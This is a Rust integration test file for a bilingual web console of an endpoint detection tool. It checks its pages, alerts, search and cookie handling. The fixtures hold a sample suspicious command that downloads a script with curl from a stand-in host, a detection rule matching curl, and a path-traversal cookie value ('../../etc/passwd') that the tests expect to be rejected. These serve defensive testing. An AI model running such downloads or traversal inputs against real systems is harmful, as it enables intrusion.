//! Every page with a story behind it, in both languages.

use crate::support::Console;
use axum::http::{Request, StatusCode, header};
use control::fixture::{Program, process_fields};
use model::{Clock as _, EventKind, Fields};

#[tokio::test]
async fn every_page_speaks_both_languages_and_lacks_no_text() {
    let console = Console::open().await;
    for path in console.pages() {
        let mut bodies = Vec::new();
        for language in ["ja", "en"] {
            let answer = console.get(&path, language).await;
            let expected = if path == "/nowhere" { StatusCode::NOT_FOUND } else { StatusCode::OK };
            assert_eq!(answer.status, expected, "{path}");
            assert!(answer.body.contains(&format!("<html lang=\"{language}\"")), "{path}");
            assert!(!answer.body.contains('⟦'), "{path}: {}", missing(&answer.body));
            assert!(answer.body.contains("</html>"), "{path}");
            assert!(answer.body.len() <= 100 * 1024, "{path}: {} bytes", answer.body.len());
            assert_eq!(doubled_ids(&answer.body), Vec::<String>::new(), "{path}");
            bodies.push(answer.body);
        }
        assert_ne!(bodies[0], bodies[1], "{path}");
    }
}

#[tokio::test]
async fn today_shows_the_sums_the_gaps_and_what_needs_a_person() {
    let console = Console::open().await;
    let page = console.get("/", "en").await.body;
    for expected in [
        "Script Downloaded By Curl",
        "web-01",
        "do not agree",
        "fanotify is not permitted",
        "broken.yml",
        "line 3: no detection",
        "The source overflowed (fanotify queue)",
    ] {
        // The fixture's sums agree; everything else stands on the page.
        assert_eq!(page.contains(expected), expected != "do not agree", "{expected}");
    }
    assert!(page.contains("hx-trigger=\"every 2s\""));
    let ja = console.get("/", "ja").await.body;
    assert!(ja.contains("ファイル: fanotify が拒否されました。"), "the agent's Japanese");
    assert!(!ja.contains("fanotify is not permitted"));
    let part = console.get_part("/", "en").await.body;
    assert!(!part.contains("<html") && part.contains("id=\"tile-sums\""));
    assert!(part.len() < page.len());
}

#[tokio::test]
async fn a_page_that_refreshes_itself_does_not_fill_the_audit_chain() {
    let console = Console::open().await;
    let entries = async || console.scene.control.audit_verify().await.unwrap().entries;
    let before = entries().await;
    for _ in 0..5 {
        assert_eq!(console.get_part("/", "ja").await.status, StatusCode::OK);
    }
    assert_eq!(entries().await, before);
    console.get(&format!("/alerts/{}", console.scene.alert), "ja").await;
    assert_eq!(entries().await, before + 1, "opening an alert is an entry");
}

#[tokio::test]
async fn devices_that_lack_the_same_share_a_line() {
    let mut console = Console::open().await;
    let at = console.scene.clock.now();
    let lacking: Fields =
        [("NotRecorded", "network: needs root"), ("NotRecordedJa", "")].into_iter().collect();
    let events = [&mut console.scene.web, &mut console.scene.db]
        .map(|stream| stream.event(EventKind::AgentStart, at, lacking.clone()));
    console.scene.commit(events.into(), Vec::new()).await.unwrap();
    for (language, devices) in [("en", "2 devices"), ("ja", "2 台の端末")] {
        let page = console.get("/", language).await.body;
        // What an agent says in English only is shown as it is: once as text, once in full when pointed at.
        assert_eq!(page.matches("network: needs root").count(), 2, "{language}");
        assert!(page.contains(devices), "{language}");
    }
}

#[tokio::test]
async fn today_says_openly_when_sums_do_not_agree() {
    let mut console = Console::open().await;
    let broken =
        model::Counters { seen: 9, submitted: 8, received: 8, emitted: 7, ..Default::default() };
    let seen = broken.to_observation(model::Class::Process, console.scene.clock.now());
    let event = console.scene.web.observed(seen);
    console.scene.commit(vec![event], Vec::new()).await.unwrap();
    let page = console.get("/", "en").await.body;
    assert!(page.contains("9 seen, but filtered, handed over and lost add up to 8."));
    assert!(page.contains("8 received, but recorded, merged and undecodable add up to 7."));
    assert!(page.contains("1 does not agree"));
    assert!(page.contains("class=\"bad\""));
    let page = console.get("/", "ja").await.body;
    assert!(page.contains("1 件が不一致"));
    assert!(page.contains("観測 9 件に対し、除外・引き渡し・欠落の合計は 8 件です。"));
}

#[tokio::test]
async fn an_alert_explains_itself() {
    let console = Console::open().await;
    let page = console.get(&format!("/alerts/{}", console.scene.alert), "en").await.body;
    for expected in [
        "<mark>/curl</mark>",
        "endswith",
        "selection",
        "curl -s -o /tmp/100%_new.sh http://203.0.113.7/x.sh",
        "/usr/lib/systemd/systemd",
        "/usr/sbin/sshd",
        "class=\"held\"",
        "1 match on 1 device",
        "Image|endswith: /curl",
    ] {
        assert!(page.contains(expected), "{expected}");
    }
    let why = page.find("id=\"why\"").unwrap();
    assert!(why < page.find("id=\"ancestors\"").unwrap(), "the explanation comes first");
    let systemd = page.find("/usr/lib/systemd/systemd").unwrap();
    assert!(systemd < page.find("/usr/sbin/sshd").unwrap(), "the oldest ancestor comes first");
    for link in links(&page).filter(|link| link.starts_with('/') && !link.starts_with("/assets")) {
        let answer = console.get(&link, "en").await;
        assert_eq!(answer.status, StatusCode::OK, "{link}");
    }
}

#[tokio::test]
async fn search_finds_by_field_wildcard_exclusion_and_word() {
    let console = Console::open().await;
    for (query, found, absent) in [
        ("Image:/usr/bin/curl", "203.0.113.7", "sshd: www-data"),
        ("image:*CURL", "203.0.113.7", "sshd: www-data"),
        ("CommandLine:*x.sh*", "http://203.0.113.7/x.sh", "sshd: www-data"),
        ("CommandLine:sshd*", "sshd: www-data", "203.0.113.7"),
        ("-Image:/usr/bin/curl", "sshd: www-data", "http://203.0.113.7"),
        ("x.sh", "http://203.0.113.7/x.sh", "sshd: www-data"),
    ] {
        let path = format!("/search?range=24h&family=process&q={}", encoded(query));
        let page = console.get(&path, "en").await.body;
        assert!(page.contains(found), "{query} lacks {found}");
        assert!(!page.contains(absent), "{query} has {absent}");
    }
    for (query, problem) in [
        ("CommandLin:x", "CommandLine"),
        ("User:", "has no value"),
        ("\"open", "not closed"),
        ("-User:*x", "compares the whole value"),
    ] {
        let page = console.get(&format!("/search?q={}", encoded(query)), "en").await;
        assert_eq!(page.status, StatusCode::OK);
        assert!(page.body.contains("role=\"alert\"") && page.body.contains(problem), "{query}");
    }
}

#[tokio::test]
async fn a_row_opens_with_all_fields_and_offers_filters_that_find_it_again() {
    let console = Console::open().await;
    let key = console.scene.download;
    let path =
        format!("/events/{}/{}/{}?q=x.sh&range=24h&family=process", key.agent, key.epoch, key.seq);
    let part = console.get_part(&path, "en").await.body;
    assert!(!part.contains("<html"));
    for name in ["ProcessGuid", "CommandLine", "ParentProcessId"] {
        assert!(part.contains(name), "{name}");
    }
    let narrowing: Vec<String> = links(&part).filter(|link| link.starts_with("/search")).collect();
    assert!(narrowing.len() >= 6);
    for link in narrowing {
        assert!(link.contains("x.sh") && link.contains("family=process"), "{link}");
        let page = console.get(&link, "en").await.body;
        assert!(!page.contains("role=\"alert\""), "{link}");
        let excluded = link.contains("q=x.sh%20-");
        assert_eq!(page.contains("data-expand"), !excluded, "{link}");
    }
}

#[tokio::test]
async fn a_long_list_goes_on_where_it_ended() {
    let mut console = Console::open().await;
    let device = console.scene.web.enrolled.device;
    let begin = console.scene.clock.now().plus_nanos(-300_000_000_000);
    let mut events = Vec::new();
    for number in 0..450_i64 {
        let name = format!("run-{number:04}");
        let arguments = [name.as_str()];
        let program =
            Program { pid: 9_000 + number, parent: 4001, image: "/bin/x", arguments: &arguments };
        let at = begin.plus_nanos(number * 1_000_000);
        events.push(console.scene.web.event(
            EventKind::ProcessStart,
            at,
            process_fields(device, &program),
        ));
    }
    console.scene.commit(events, Vec::new()).await.unwrap();
    let mut body = console.get("/search?range=1h&q=Image:/bin/x", "en").await.body;
    let mut seen = Vec::new();
    let mut pages = 0;
    loop {
        pages += 1;
        seen.extend(body.split("run-").skip(1).map(|rest| rest[..4].parse::<u32>().unwrap()));
        let Some(more) = body.split("data-more href=\"").nth(1) else { break };
        let link = unescaped(more.split('"').next().unwrap());
        body = console.get_part(&link, "en").await.body;
        assert!(!body.contains("<html"));
    }
    seen.dedup();
    assert_eq!(seen, (0..450).rev().collect::<Vec<_>>(), "newest first, none missing, none twice");
    assert!(pages >= 3);
}

#[tokio::test]
async fn an_empty_installation_says_what_to_do_next() {
    let console = Console::empty().await;
    for (path, expected) in [
        ("/", "No finding is open"),
        ("/alerts", "No finding is open"),
        ("/alerts?view=single", "No alerts yet"),
        ("/timeline", "There is no alert in this time"),
        ("/risk", "Nothing adds to a risk now"),
        ("/search", "No event matches"),
        ("/search", "CommandLine:*http*"),
    ] {
        let answer = console.get(path, "en").await;
        assert_eq!(answer.status, StatusCode::OK, "{path}");
        assert!(answer.body.contains(expected), "{path}: {expected}");
        assert!(!answer.body.contains('⟦'), "{path}: {}", missing(&answer.body));
    }
}

#[tokio::test]
async fn errors_speak_the_readers_language() {
    let console = Console::open().await;
    let absent = model::AlertId::from_bits(1);
    for path in [format!("/alerts/{absent}"), "/alerts/x".to_owned(), "/nowhere".to_owned()] {
        for (language, expected) in [("ja", "見つかりません"), ("en", "Not found")] {
            let answer = console.get(&path, language).await;
            assert_eq!(answer.status, StatusCode::NOT_FOUND, "{path}");
            assert!(answer.body.contains(expected), "{path}");
        }
        let part = console.get_part(&path, "en").await;
        assert!(!part.body.contains("<html") && part.body.contains("Not found"), "{path}");
    }
}

#[tokio::test]
async fn language_colours_and_zone_follow_the_person() {
    let console = Console::open().await;
    let ask = |cookie: String, accept: &'static str| {
        let cookie =
            format!("{}; {cookie}", console.cookie("").replace("; mimamori_language=", ""));
        let request = Request::get("/").header(header::COOKIE, cookie);
        console.send(request.header(header::ACCEPT_LANGUAGE, accept))
    };
    let stranger = Request::get("/signin").header(header::ACCEPT_LANGUAGE, "en-US,en;q=0.9");
    let page = console.send(stranger).await.body;
    assert!(page.contains("<html lang=\"en\">"), "no data-theme unless chosen");
    // Whoever is signed in has a language of his own; what this browser chose is stronger.
    let page = ask(String::new(), "en-US,en;q=0.9").await.body;
    assert!(page.contains("<html lang=\"ja\">"), "the person's language");
    let page = ask("mimamori_theme=dark; mimamori_language=ja".to_owned(), "en").await.body;
    assert!(page.contains("<html lang=\"ja\" data-theme=\"dark\">"));
    assert!(page.contains("+09:00"), "the server's zone");
    let page = ask("mimamori_zone=America/New_York".to_owned(), "en").await.body;
    assert!(page.contains("UTC-04:00"), "the chosen zone");
    let page = ask("mimamori_zone=../../etc/passwd".to_owned(), "en").await.body;
    assert!(page.contains("UTC+09:00"));
}

fn links(page: &str) -> impl Iterator<Item = String> {
    page.split("href=\"").skip(1).map(|rest| unescaped(rest.split('"').next().unwrap()))
}

fn unescaped(text: &str) -> String {
    text.replace("&#38;", "&")
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

pub(crate) fn missing(page: &str) -> String {
    page.split('⟦').skip(1).filter_map(|rest| rest.split('⟧').next()).collect::<Vec<_>>().join(", ")
}

pub(crate) fn doubled_ids(page: &str) -> Vec<String> {
    let mut ids: Vec<&str> =
        page.split(" id=\"").skip(1).filter_map(|rest| rest.split('"').next()).collect();
    ids.sort_unstable();
    ids.windows(2).filter(|pair| pair[0] == pair[1]).map(|pair| pair[0].to_owned()).collect()
}
